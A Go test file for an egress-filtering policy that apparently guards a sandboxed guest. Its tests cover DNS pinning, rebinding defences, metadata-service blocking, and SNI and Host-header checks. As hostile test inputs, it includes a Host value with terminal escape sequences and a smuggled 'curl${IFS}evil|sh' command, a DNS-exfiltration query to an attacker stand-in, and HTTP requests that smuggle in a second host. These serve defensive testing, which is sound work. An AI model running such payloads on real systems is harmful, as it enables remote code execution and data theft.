package egress

import (
	"bytes"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"net"
	"net/netip"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/miekg/dns"
)

// clock is a settable time for pin expiry.
type clock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *clock) now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.t
}

func (c *clock) advance(d time.Duration) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.t = c.t.Add(d)
}

// syncBuf is a bytes.Buffer for the log writers.
type syncBuf struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuf) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuf) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

func rules(t testing.TB, specs ...string) []Rule {
	t.Helper()
	var out []Rule
	for _, s := range specs {
		v, spec, _ := strings.Cut(s, " ")
		verdict, err := ParseVerdict(v)
		if err != nil {
			t.Fatal(err)
		}
		r, err := ParseRule(verdict, spec)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, r)
	}
	return out
}

func newPolicy(t testing.TB, cfg Config, specs ...string) (*Policy, *clock) {
	t.Helper()
	c := &clock{t: time.Unix(1_700_000_000, 0)}
	cfg.Rules = append(cfg.Rules, rules(t, specs...)...)
	cfg.now = c.now
	cfg.Internal = []netip.Prefix{netip.MustParsePrefix("10.0.2.0/24"), netip.MustParsePrefix("fd00::/64")}
	return New(cfg), c
}

func ap(s string) netip.AddrPort { return netip.MustParseAddrPort(s) }

// resolve sends a query for name through p and an answer with the given
// records ("A 1.2.3.4", "CNAME x.", "AAAA ::1", TTL 300), and returns the
// guest's answer.
func resolve(t testing.TB, p *Policy, name string, qtype uint16, records ...string) *dns.Msg {
	t.Helper()
	return resolveTTL(t, p, name, qtype, 300, records...)
}

// resolveTTL is resolve with the records' TTL given.
func resolveTTL(t testing.TB, p *Policy, name string, qtype uint16, ttl int, records ...string) *dns.Msg {
	t.Helper()
	q := new(dns.Msg)
	q.SetQuestion(dns.Fqdn(name), qtype)
	b, _ := q.Pack()
	reply, forward, filter := p.Query(b)
	var out []byte
	if !forward {
		out = reply
	} else {
		a := new(dns.Msg)
		a.SetReply(q)
		owner := dns.Fqdn(name)
		for _, r := range records {
			rr, err := dns.NewRR(owner + " " + strconv.Itoa(ttl) + " IN " + r)
			if err != nil {
				t.Fatal(err)
			}
			a.Answer = append(a.Answer, rr)
			if c, ok := rr.(*dns.CNAME); ok {
				owner = c.Target
			}
		}
		out, _ = a.Pack()
		if filter != nil {
			out = filter(out)
		}
	}
	m := new(dns.Msg)
	if err := m.Unpack(out); err != nil {
		t.Fatalf("answer for %s: %v", name, err)
	}
	return m
}

func addrsOf(m *dns.Msg) []string {
	var out []string
	for _, rr := range m.Answer {
		switch v := rr.(type) {
		case *dns.A:
			out = append(out, v.A.String())
		case *dns.AAAA:
			out = append(out, v.AAAA.String())
		}
	}
	return out
}

func TestOffPolicyAllowsEverything(t *testing.T) {
	p, _ := newPolicy(t, Config{})
	if p.Active() || !p.Decide(TCP, ap("198.51.100.1:53"), ap("198.51.100.1:53"), false).Allowed {
		t.Error("a policy without rules must allow everything")
	}
	if _, forward, filter := p.Query([]byte{1, 2, 3}); !forward || filter != nil {
		t.Error("a policy without rules must forward DNS untouched")
	}
}

func TestNamesOnlyThroughDNS(t *testing.T) {
	p, c := newPolicy(t, Config{}, "allow good.example:443")
	dst := ap("198.51.100.7:443")
	if p.Decide(TCP, dst, dst, false).Allowed {
		t.Fatal("address allowed before its name was resolved")
	}
	m := resolve(t, p, "GOOD.example", dns.TypeA, "A 198.51.100.7")
	if m.Rcode != dns.RcodeSuccess || len(addrsOf(m)) != 1 {
		t.Fatalf("answer: %v", m)
	}
	d := p.Decide(TCP, dst, dst, false)
	if !d.Allowed || !d.Inspect || d.name != "good.example" {
		t.Fatalf("after resolving: %+v", d)
	}
	if p.Decide(TCP, ap("198.51.100.7:80"), ap("198.51.100.7:80"), false).Allowed {
		t.Error("another port of the name allowed")
	}
	if p.Decide(UDP, ap("198.51.100.8:443"), ap("198.51.100.8:443"), false).Allowed {
		t.Error("another address allowed")
	}
	if !p.Decide(UDP, dst, dst, false).Allowed {
		t.Error("UDP to the pinned port denied (the rule has no protocol)")
	}
	// The pin lasts max(TTL, 60 s): 300 s here.
	c.advance(299 * time.Second)
	if !p.Decide(TCP, dst, dst, false).Allowed {
		t.Error("pin gone before its TTL")
	}
	c.advance(2 * time.Second)
	if p.Decide(TCP, dst, dst, false).Allowed {
		t.Error("pin outlived its TTL")
	}
	// An open flow keeps it alive.
	resolve(t, p, "good.example", dns.TypeA, "A 198.51.100.7")
	d = p.Decide(TCP, dst, dst, false)
	release := p.Hold(d)
	c.advance(time.Hour)
	if !p.Decide(TCP, dst, dst, false).Allowed {
		t.Error("pin expired while a flow through it is open")
	}
	release()
	if p.Decide(TCP, dst, dst, false).Allowed {
		t.Error("pin kept after its flow closed")
	}
}

func TestShortTTLHasFloor(t *testing.T) {
	p, c := newPolicy(t, Config{}, "allow one.example")
	resolveTTL(t, p, "one.example", dns.TypeA, 1, "A 198.51.100.9")
	dst := ap("198.51.100.9:1")
	c.advance(59 * time.Second)
	if !p.Decide(TCP, dst, dst, false).Allowed {
		t.Error("a 1 s TTL pin expired before 60 s")
	}
	c.advance(2 * time.Second)
	if p.Decide(TCP, dst, dst, false).Allowed {
		t.Error("a 1 s TTL pin outlived 60 s")
	}
}

func TestWildcardsAndDenyWins(t *testing.T) {
	p, _ := newPolicy(t, Config{}, "allow *.below.example", "allow **.tree.example", "deny bad.tree.example",
		"deny *.tree.example:22")
	for name, want := range map[string]int{
		"below.example":     dns.RcodeNameError,
		"a.below.example":   dns.RcodeSuccess,
		"b.a.below.example": dns.RcodeSuccess,
		"tree.example":      dns.RcodeSuccess,
		"x.tree.example":    dns.RcodeSuccess,
		"bad.tree.example":  dns.RcodeNameError,
		"other.example":     dns.RcodeNameError,
		"xbelow.example":    dns.RcodeNameError,
	} {
		if m := resolve(t, p, name, dns.TypeA, "A 198.51.100.50"); m.Rcode != want {
			t.Errorf("%s: rcode %s, want %s", name, dns.RcodeToString[m.Rcode], dns.RcodeToString[want])
		}
	}
	resolve(t, p, "y.tree.example", dns.TypeA, "A 198.51.100.51")
	if p.Decide(TCP, ap("198.51.100.51:22"), ap("198.51.100.51:22"), false).Allowed {
		t.Error("port 22 of *.tree.example allowed despite the deny rule")
	}
	if !p.Decide(TCP, ap("198.51.100.51:80"), ap("198.51.100.51:80"), false).Allowed {
		t.Error("port 80 denied")
	}
	// An address that names share: the one allowing port 22 opens it,
	// and the first bytes show which name the flow is for.
	if d := p.Decide(TCP, ap("198.51.100.50:22"), ap("198.51.100.50:22"), false); !d.Allowed || !d.Inspect {
		t.Errorf("shared address, port 22: %+v", d)
	}
}

func TestAddressRules(t *testing.T) {
	p, _ := newPolicy(t, Config{}, "allow 198.51.100.0/24:5000-5010/udp", "deny 198.51.100.66",
		"allow [2001:db8:2::/48]:443", "allow 127.0.0.1:8080", "allow 169.254.169.254:80")
	for _, c := range []struct {
		proto Proto
		dst   string
		want  bool
	}{
		{UDP, "198.51.100.10:5005", true},
		{UDP, "198.51.100.10:5011", false},
		{TCP, "198.51.100.10:5005", false},
		{UDP, "198.51.100.66:5005", false},
		{TCP, "[2001:db8:2::10]:443", true},
		{TCP, "[2001:db8:3::10]:443", false},
		{TCP, "[::ffff:198.51.100.10]:5005", false},
		{UDP, "[::ffff:198.51.100.10]:5005", true},
		{TCP, "127.0.0.1:8080", true},
		{TCP, "127.0.0.1:8081", false},
		{TCP, "169.254.169.254:80", true},
		{TCP, "169.254.169.254:81", false},
		{ICMP, "198.51.100.10:0", false},
	} {
		if got := p.Decide(c.proto, ap(c.dst), ap(c.dst), false).Allowed; got != c.want {
			t.Errorf("%v %s: allowed %v, want %v", c.proto, c.dst, got, c.want)
		}
	}
}

func TestDenyOnlyPolicy(t *testing.T) {
	p, _ := newPolicy(t, Config{}, "deny blocked.example", "deny 198.51.100.66")
	if !p.Decide(TCP, ap("198.51.100.10:443"), ap("198.51.100.10:443"), false).Allowed || p.Decide(TCP, ap("198.51.100.66:443"), ap("198.51.100.66:443"), false).Allowed {
		t.Error("deny-only policy: wrong address verdicts")
	}
	if m := resolve(t, p, "blocked.example", dns.TypeA, "A 1.2.3.4"); m.Rcode != dns.RcodeNameError {
		t.Error("denied name resolved")
	}
	if m := resolve(t, p, "other.example", dns.TypeTXT, "TXT hello"); m.Rcode != dns.RcodeSuccess || len(m.Answer) != 1 {
		t.Errorf("deny-only policy must forward other names' TXT: %v", m)
	}
	// Nor behind an alias: its address would be pinned to the alias only.
	if m := resolve(t, p, "alias.example", dns.TypeA, "CNAME hop.example.", "CNAME blocked.example.", "A 198.51.100.67"); m.Rcode != dns.RcodeNameError {
		t.Errorf("a denied name behind two CNAMEs resolved: %v", m)
	}
	if p.Decide(TCP, ap("198.51.100.67:443"), ap("198.51.100.67:443"), false).name != "" {
		t.Error("the denied name's address was pinned to the alias")
	}
	if m := resolve(t, p, "alias2.example", dns.TypeA, "CNAME cdn.example.", "A 198.51.100.68"); m.Rcode != dns.RcodeSuccess || len(m.Answer) != 2 {
		t.Errorf("an alias of an allowed name: %v", m)
	}
	// One resolver, and no metadata service, even without an allow list.
	if p.Decide(UDP, ap("198.51.100.10:53"), ap("198.51.100.10:53"), false).Allowed || p.Decide(TCP, ap("169.254.169.254:80"), ap("169.254.169.254:80"), false).Allowed {
		t.Error("DNS elsewhere or metadata allowed")
	}
}

func TestDNSTypesAndRebinding(t *testing.T) {
	p, _ := newPolicy(t, Config{}, "allow **.example", "allow 10.0.2.0/24:9")
	if m := resolve(t, p, "a.example", dns.TypeTXT, "TXT secret"); m.Rcode != dns.RcodeRefused {
		t.Errorf("TXT: %s", dns.RcodeToString[m.Rcode])
	}
	if m := resolve(t, p, "a.example", dns.TypeHTTPS); m.Rcode != dns.RcodeSuccess || len(m.Answer) != 0 {
		t.Errorf("HTTPS: %v", m)
	}
	m := resolve(t, p, "a.example", dns.TypeA, "A 127.0.0.1", "A 198.51.100.3", "A 169.254.169.254", "A 10.0.2.3")
	if got := strings.Join(addrsOf(m), ","); got != "198.51.100.3,10.0.2.3" {
		t.Errorf("rebinding: answer %s, want 198.51.100.3 and 10.0.2.3 (allowed by a CIDR rule)", got)
	}
	m = resolve(t, p, "v6.example", dns.TypeAAAA, "AAAA ::1", "AAAA fe80::1", "AAAA fd00::5", "AAAA 2001:db8::5", "AAAA ::ffff:127.0.0.1")
	if got := strings.Join(addrsOf(m), ","); got != "2001:db8::5" {
		t.Errorf("rebinding v6: answer %s", got)
	}
	if p.Stats().AnswersDropped != 6 {
		t.Errorf("answers dropped: %d, want 6", p.Stats().AnswersDropped)
	}
	// CNAME chains: the addresses are pinned to the name asked.
	m = resolve(t, p, "www.example", dns.TypeA, "CNAME cdn.other.net.", "A 198.51.100.44")
	if len(addrsOf(m)) != 1 || !p.Decide(TCP, ap("198.51.100.44:443"), ap("198.51.100.44:443"), false).Allowed {
		t.Errorf("CNAME chain: %v", m)
	}
	if !p.pins.has(netip.MustParseAddr("198.51.100.44"), "www.example", time.Unix(1_700_000_000, 0)) {
		t.Error("CNAME target's address not pinned to the name asked")
	}
	// Garbage from upstream is not passed on.
	q := new(dns.Msg)
	q.SetQuestion("a.example.", dns.TypeA)
	b, _ := q.Pack()
	_, _, filter := p.Query(b)
	var r dns.Msg
	if err := r.Unpack(filter([]byte{0, 1, 2})); err != nil || r.Rcode != dns.RcodeServerFailure {
		t.Errorf("garbage answer: %v %v", r, err)
	}
	// An unparsable query is dropped, never forwarded.
	if reply, forward, _ := p.Query([]byte("\x00\x01not dns")); forward || reply != nil {
		t.Error("malformed query forwarded")
	}
}

func TestDNSPortsAndMetadataNeedAddressRules(t *testing.T) {
	p, _ := newPolicy(t, Config{}, "allow **.example", "allow 198.51.100.53:53/udp")
	resolve(t, p, "ns.example", dns.TypeA, "A 198.51.100.99")
	for _, dst := range []string{"198.51.100.99:53", "198.51.100.99:853"} {
		if p.Decide(UDP, ap(dst), ap(dst), false).Allowed || p.Decide(TCP, ap(dst), ap(dst), false).Allowed {
			t.Errorf("%s allowed through a name pin", dst)
		}
	}
	if !p.Decide(UDP, ap("198.51.100.53:53"), ap("198.51.100.53:53"), false).Allowed {
		t.Error("DNS server named by an address rule denied")
	}
}

// clientHello returns the first record a Go TLS client sends for sni.
func clientHello(t *testing.T, sni string) []byte {
	t.Helper()
	c, s := net.Pipe()
	defer s.Close()
	go func() {
		defer c.Close()
		_ = tls.Client(c, &tls.Config{ServerName: sni, InsecureSkipVerify: true}).Handshake()
	}()
	var got []byte
	buf := make([]byte, 4096)
	for {
		_ = s.SetReadDeadline(time.Now().Add(5 * time.Second))
		n, err := s.Read(buf)
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, buf[:n]...)
		if f := parseFirstBytes(got); f.complete {
			return got
		}
	}
}

func TestInspect(t *testing.T) {
	p, _ := newPolicy(t, Config{}, "allow good.example:443", "allow good.example:80")
	resolve(t, p, "good.example", dns.TypeA, "A 198.51.100.7")
	resolve(t, p, "other.example", dns.TypeA, "A 198.51.100.7") // denied: not pinned
	inspect := func(port string, b []byte, final bool) (bool, bool) {
		d := p.Decide(TCP, ap("198.51.100.7:"+port), ap("198.51.100.7:"+port), false)
		if !d.Inspect {
			t.Fatalf("flow through a pin not inspected: %+v", d)
		}
		done := p.Inspect(&d, b, final)
		return done, d.Allowed
	}
	good := clientHello(t, "Good.Example")
	for i := 0; i < len(good)-1; i += 97 {
		if done, _ := inspect("443", good[:i], false); done {
			t.Fatalf("decided on %d of %d bytes of a ClientHello", i, len(good))
		}
	}
	if _, ok := inspect("443", good, false); !ok {
		t.Error("right SNI denied")
	}
	if _, ok := inspect("443", clientHello(t, "other.example"), false); ok {
		t.Error("foreign SNI allowed")
	}
	if _, ok := inspect("443", clientHello(t, ""), false); ok {
		t.Error("ClientHello without SNI allowed")
	}
	if done, ok := inspect("443", good[:50], true); !done || ok {
		t.Error("truncated ClientHello at the end allowed")
	}
	// A ClientHello split over two records.
	split := splitRecord(good)
	if _, ok := inspect("443", split, false); !ok {
		t.Error("ClientHello in two records denied")
	}
	for req, want := range map[string]bool{
		"GET / HTTP/1.1\r\nHost: good.example\r\n\r\n":                                   true,
		"GET / HTTP/1.1\r\nhost: GOOD.example:80\r\nAccept: */*\r\n\r\n":                 true,
		"GET / HTTP/1.1\r\nHost: other.example\r\n\r\n":                                  false,
		"GET / HTTP/1.1\r\nAccept: */*\r\n\r\n":                                          false,
		"GET http://other.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n":               false,
		"GET / HTTP/1.1\r\nHost: good.example\r\nHost: other.example\r\n\r\n":            false,
		"GET / HTTP/1.1\r\nHost: 198.51.100.7\r\n\r\n":                                   false,
		"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n":                                               false,
		"SSH-2.0-OpenSSH_9.6\r\n":                                                        true,
		"\x00\x00\x00\x01binary protocol":                                                true,
		"CONNECT other.example:443 HTTP/1.1\r\nHost: good.example\r\n\r\n":               false,
		"POST /x HTTP/1.1\r\nHost: good.example\r\nContent-Length: 3\r\n\r\nabc":         true,
		"GET /" + strings.Repeat("a", MaxFirstBytes) + " HTTP/1.1\r\nHost: good.example": false,
		// What servers take as a request, so must the check.
		"\r\nGET / HTTP/1.1\r\nHost: other.example\r\n\r\n":                    false,
		"\r\n\nGET / HTTP/1.1\r\nHost: good.example\r\n\r\n":                   true,
		"PROPFIND / HTTP/1.1\r\nHost: other.example\r\n\r\n":                   false,
		"FOO-BAR / HTTP/1.1\r\nHost: good.example\r\n\r\n":                     true,
		"GET / HTTP/1.1\nHost: other.example\n\n":                              false,
		"GET / HTTP/1.1\r\nX: y\nHost: other.example\r\n\r\n":                  false,
		"GET / HTTP/1.1\r\nHost: good.example\r\nX: y\r\n Host: other\r\n\r\n": false,
		"GET  /  HTTP/1.1\r\nHost: other.example\r\n\r\n":                      false,
		"PING\r\n":        true,
		"HELLO there\r\n": true,
	} {
		port := "80"
		if _, ok := inspect(port, []byte(req), false); ok != want {
			t.Errorf("%.60q: allowed %v, want %v", req, ok, want)
		}
	}
	if done, _ := inspect("80", []byte("GET / HTTP/1.1\r\nHost: good"), false); done {
		t.Error("decided on half a request head")
	}
	if done, ok := inspect("80", nil, true); !done || !ok {
		t.Error("a flow whose server speaks first must pass on the pin")
	}
}

// splitRecord re-frames a one-record ClientHello as two records.
func splitRecord(rec []byte) []byte {
	body := rec[5:]
	half := len(body) / 2
	var out []byte
	for _, part := range [][]byte{body[:half], body[half:]} {
		out = append(out, 0x16, 3, 1, byte(len(part)>>8), byte(len(part)))
		out = append(out, part...)
	}
	return out
}

func TestAuditAndLog(t *testing.T) {
	var log syncBuf
	p, _ := newPolicy(t, Config{Audit: true, Log: &log}, "allow good.example:443")
	resolve(t, p, "good.example", dns.TypeA, "A 198.51.100.7")
	if m := resolve(t, p, "files.example.org", dns.TypeA, "A 198.51.100.8"); m.Rcode != dns.RcodeSuccess {
		t.Fatalf("audit mode blocked a name: %v", m)
	}
	if !p.Decide(TCP, ap("198.51.100.8:443"), ap("198.51.100.8:443"), false).Allowed || !p.Decide(UDP, ap("198.51.100.9:5353"), ap("198.51.100.9:5353"), false).Allowed {
		t.Fatal("audit mode blocked a flow")
	}
	d := p.Decide(TCP, ap("198.51.100.7:443"), ap("198.51.100.7:443"), false)
	p.Inspect(&d, clientHello(t, "good.example"), false)
	st := p.Stats()
	if st.Audited != 2 || st.Denied != 0 || st.Allowed != 1 {
		t.Errorf("stats: %+v", st)
	}
	want := []string{"allow 198.51.100.9:5353/udp", "allow files.example.org:443", "allow good.example:443"}
	if got := p.List().Suggested; strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("suggested %q, want %q", got, want)
	}
	var recs []record
	for _, line := range strings.Split(strings.TrimSpace(log.String()), "\n") {
		var r record
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatalf("log line %q: %v", line, err)
		}
		recs = append(recs, r)
	}
	var found bool
	for _, r := range recs {
		if r.Proto == "tcp" && r.Addr == "198.51.100.8" && r.Port == 443 && r.Name == "files.example.org" && r.Verdict == "audit" && r.Time != "" {
			found = true
		}
	}
	if !found {
		t.Errorf("no audit record for files.example.org:\n%s", log.String())
	}
}

func TestNotices(t *testing.T) {
	var out syncBuf
	p, c := newPolicy(t, Config{Notices: &out}, "allow files.example.org:8443")
	resolve(t, p, "files.example.org", dns.TypeA, "A 198.51.100.7")
	for i := 0; i < 3; i++ {
		p.Decide(TCP, ap("198.51.100.7:443"), ap("198.51.100.7:443"), false)
	}
	p.Decide(TCP, ap("198.51.100.7:8443"), ap("198.51.100.7:8443"), false) // allowed: no notice
	resolve(t, p, "exfil.attacker.example", dns.TypeTXT)
	got := out.String()
	want := "egress: denied tcp 198.51.100.7:443 (files.example.org): allow it with --allow files.example.org:443\n"
	if !strings.HasPrefix(got, want) || strings.Count(got, "198.51.100.7:443") != 1 {
		t.Errorf("notices:\n%s\nwant once:\n%s", got, want)
	}
	if !strings.Contains(got, "egress: denied dns TXT query for exfil.attacker.example: allow it with --allow exfil.attacker.example") {
		t.Errorf("no notice for the denied name:\n%s", got)
	}
	// A spray of destinations is rate-limited.
	for i := 0; i < 1000; i++ {
		dst := netip.AddrPortFrom(netip.MustParseAddr("198.51.100.7"), uint16(1000+i))
		p.Decide(TCP, dst, dst, false)
	}
	if n := strings.Count(out.String(), "\n"); n > int(noticeBurst)+3 {
		t.Errorf("%d notice lines for a spray", n)
	}
	if p.Stats().NoticesSuppressed == 0 {
		t.Error("suppressed notices not counted")
	}
	c.advance(time.Minute)
}

func TestRuntimeEdits(t *testing.T) {
	p, _ := newPolicy(t, Config{}, "allow a.example")
	id := p.Add(rules(t, "allow 198.51.100.0/24:443")[0])
	if !p.Decide(TCP, ap("198.51.100.1:443"), ap("198.51.100.1:443"), false).Allowed {
		t.Error("added rule not in force")
	}
	l := p.List()
	if len(l.Rules) != 2 || l.Rules[1].ID != id || l.Rules[1].Rule != "198.51.100.0/24:443" || !l.DefaultDeny {
		t.Errorf("listing: %+v", l)
	}
	if err := p.Remove(id); err != nil {
		t.Fatal(err)
	}
	if p.Decide(TCP, ap("198.51.100.1:443"), ap("198.51.100.1:443"), false).Allowed {
		t.Error("removed rule still in force")
	}
	if err := p.Remove(id); err == nil {
		t.Error("removing twice succeeded")
	}
}

func TestPinTableBounded(t *testing.T) {
	tab := newPinTable(64)
	now := time.Unix(0, 0)
	held := tab.hold(netip.MustParseAddr("192.0.2.1"))
	tab.pin(netip.MustParseAddr("192.0.2.1"), "held.example", now.Add(time.Second), now)
	for i := 0; i < 1000; i++ {
		a := netip.AddrFrom4([4]byte{198, 51, byte(i >> 8), byte(i)})
		tab.pin(a, fmt.Sprintf("n%d.example", i), now.Add(time.Duration(i)*time.Second+time.Hour), now)
	}
	if tab.size() > 64 {
		t.Errorf("%d pins held, bound 64", tab.size())
	}
	if !tab.has(netip.MustParseAddr("192.0.2.1"), "held.example", now.Add(time.Hour)) {
		t.Error("a pin with an open flow was evicted")
	}
	if !tab.has(netip.AddrFrom4([4]byte{198, 51, 3, 231}), "n999.example", now) {
		t.Error("the newest pin was evicted")
	}
	held()
}

func TestFirstBytesNeverPanics(t *testing.T) {
	good := clientHello(t, "x.example")
	for i := range good {
		for _, b := range []byte{0, 0xff, 0x7f} {
			mut := append([]byte(nil), good...)
			mut[i] = b
			parseFirstBytes(mut)
		}
	}
}

func FuzzFirstBytes(f *testing.F) {
	f.Add([]byte("GET / HTTP/1.1\r\nHost: a.example\r\n\r\n"))
	f.Add([]byte{0x16, 3, 1, 0, 4, 1, 0, 0, 0})
	f.Add([]byte("PRI * HTTP/2.0\r\n\r\n"))
	f.Add([]byte("CONNECT a:1 HTTP/1.1\r\n\r\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		fb := parseFirstBytes(b)
		if fb.kind == firstTLS && fb.complete && fb.bad == "" && len(fb.name) > len(b) {
			t.Fatal("name longer than the input")
		}
	})
}

// FuzzQuery: no query or answer crashes the DNS side, and under an allow
// list nothing but A, AAAA and CNAME queries of allowed names is forwarded.
func FuzzQuery(f *testing.F) {
	q := new(dns.Msg)
	q.SetQuestion("a.example.", dns.TypeA)
	b, _ := q.Pack()
	a := new(dns.Msg)
	a.SetReply(q)
	rr, _ := dns.NewRR("a.example. 1 IN A 127.0.0.1")
	a.Answer = append(a.Answer, rr)
	ab, _ := a.Pack()
	f.Add(b, ab)
	f.Add([]byte{}, []byte{})
	f.Fuzz(func(t *testing.T, query, answer []byte) {
		p := New(Config{Rules: rules(t, "allow a.example")})
		_, forward, filter := p.Query(query)
		if !forward {
			return
		}
		var m dns.Msg
		if err := m.Unpack(query); err != nil || normalName(m.Question[0].Name) != "a.example" {
			t.Fatalf("forwarded a query for another name: %v", m.Question)
		}
		if qt := m.Question[0].Qtype; qt != dns.TypeA && qt != dns.TypeAAAA && qt != dns.TypeCNAME {
			t.Fatalf("forwarded a %s query", dns.TypeToString[qt])
		}
		out := filter(answer)
		var r dns.Msg
		if err := r.Unpack(out); err != nil {
			t.Fatalf("filtered answer does not parse: %v", err)
		}
		for _, rr := range r.Answer {
			if v, ok := rr.(*dns.A); ok && v.A.IsLoopback() {
				t.Fatal("loopback answer passed")
			}
		}
	})
}

// A server name or Host the guest chose reaches the user's terminal quoted
// if it is no plain name, and is never offered as a rule to copy.
func TestNoticesQuoteGuestNames(t *testing.T) {
	var out syncBuf
	p, _ := newPolicy(t, Config{Notices: &out}, "allow good.example:80")
	resolve(t, p, "good.example", dns.TypeA, "A 198.51.100.7")
	d := p.Decide(TCP, ap("198.51.100.7:80"), ap("198.51.100.7:80"), false)
	hostile := "x\x1b]52;c;ZXZpbA==\a\x1b[2K\r;curl${IFS}evil|sh"
	p.Inspect(&d, []byte("GET / HTTP/1.1\r\nHost: "+hostile+"\r\n\r\n"), false)
	got := out.String()
	if d.Allowed || got == "" {
		t.Fatalf("allowed %v, notices %q", d.Allowed, got)
	}
	if strings.ContainsAny(got, "\x1b\a\r") || strings.Contains(got, "--allow x") {
		t.Errorf("the notice carries the guest's bytes as they are: %q", got)
	}
}

// An address held by an open flow keeps at most maxNamesPerAddr names,
// however many names below an allowed wildcard answer it; the newest stay.
func TestPinsPerAddressBounded(t *testing.T) {
	tab := newPinTable(maxPins)
	now := time.Unix(0, 0)
	a := netip.MustParseAddr("198.51.100.9")
	release := tab.hold(a)
	defer release()
	for i := range 10 * maxNamesPerAddr {
		tab.pin(a, fmt.Sprintf("n%d.example", i), now.Add(time.Minute+time.Duration(i)*time.Second), now)
	}
	if n := tab.size(); n != maxNamesPerAddr {
		t.Errorf("%d names pinned to one address, want %d", n, maxNamesPerAddr)
	}
	if last := fmt.Sprintf("n%d.example", 10*maxNamesPerAddr-1); !tab.has(a, last, now) {
		t.Error("the newest name was not kept")
	}
}
